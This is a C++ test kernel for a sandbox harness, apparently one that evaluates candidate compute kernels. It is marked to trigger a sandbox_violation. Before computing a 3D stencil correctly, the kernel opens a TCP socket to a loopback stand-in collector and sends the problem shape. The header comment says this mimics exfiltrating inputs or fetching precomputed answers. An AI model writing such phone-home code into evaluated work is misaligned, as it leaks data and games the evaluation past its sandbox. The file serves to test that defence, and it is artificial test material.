// expect: sandbox_violation
// Attack: phones home. Before computing, it opens socket(AF_INET, SOCK_STREAM, 0) and tries
// to connect to 127.0.0.1:8080 (standing in for any collector: exfiltrate inputs, fetch a
// precomputed answer, or talk to another island's worker). If the connection works it sends
// the problem shape. Then it computes v correctly.
// Why it must be stopped: candidates get no network. The seccomp filter kills the worker with
// SIGSYS on socket() for network address families: sandbox_violation.
#include "glp_kernel.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

GLP_EXPORT int glp_kernel(const glp_arg* args, int nargs, const int64_t* sizes, void* stream) {
  (void)stream;
  if (nargs < 2 || sizes == nullptr) return 1;
  const int64_t nx = sizes[0], ny = sizes[1], nz = sizes[2];

  const int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd >= 0) {
    sockaddr_in addr;
    memset(&addr, 0, sizeof addr);
    addr.sin_family = AF_INET;
    addr.sin_port = htons(8080);
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(fd, reinterpret_cast<const sockaddr*>(&addr), sizeof addr) == 0) {
      char msg[128];
      const int len = snprintf(msg, sizeof msg, "shape %lld %lld %lld\n", static_cast<long long>(nx), static_cast<long long>(ny),
                               static_cast<long long>(nz));
      if (len > 0 && write(fd, msg, static_cast<size_t>(len)) < 0) { /* best effort */
      }
    }
    close(fd);
  }

  const double* u = static_cast<const double*>(args[0].data);
  double* v = static_cast<double*>(args[1].data);
  const int64_t sy = nx, sz = nx * ny;
  for (int64_t k = 0; k < nz; ++k)
    for (int64_t j = 0; j < ny; ++j)
      for (int64_t i = 0; i < nx; ++i) {
        const int64_t c = (k * ny + j) * nx + i;
        v[c] = (i == 0 || j == 0 || k == 0 || i == nx - 1 || j == ny - 1 || k == nz - 1)
                   ? u[c]
                   : (1.0 / 3.0) * u[c] + (1.0 / 9.0) * (u[c - 1] + u[c + 1] + u[c - sy] + u[c + sy] + u[c - sz] + u[c + sz]);
      }
  return 0;
}
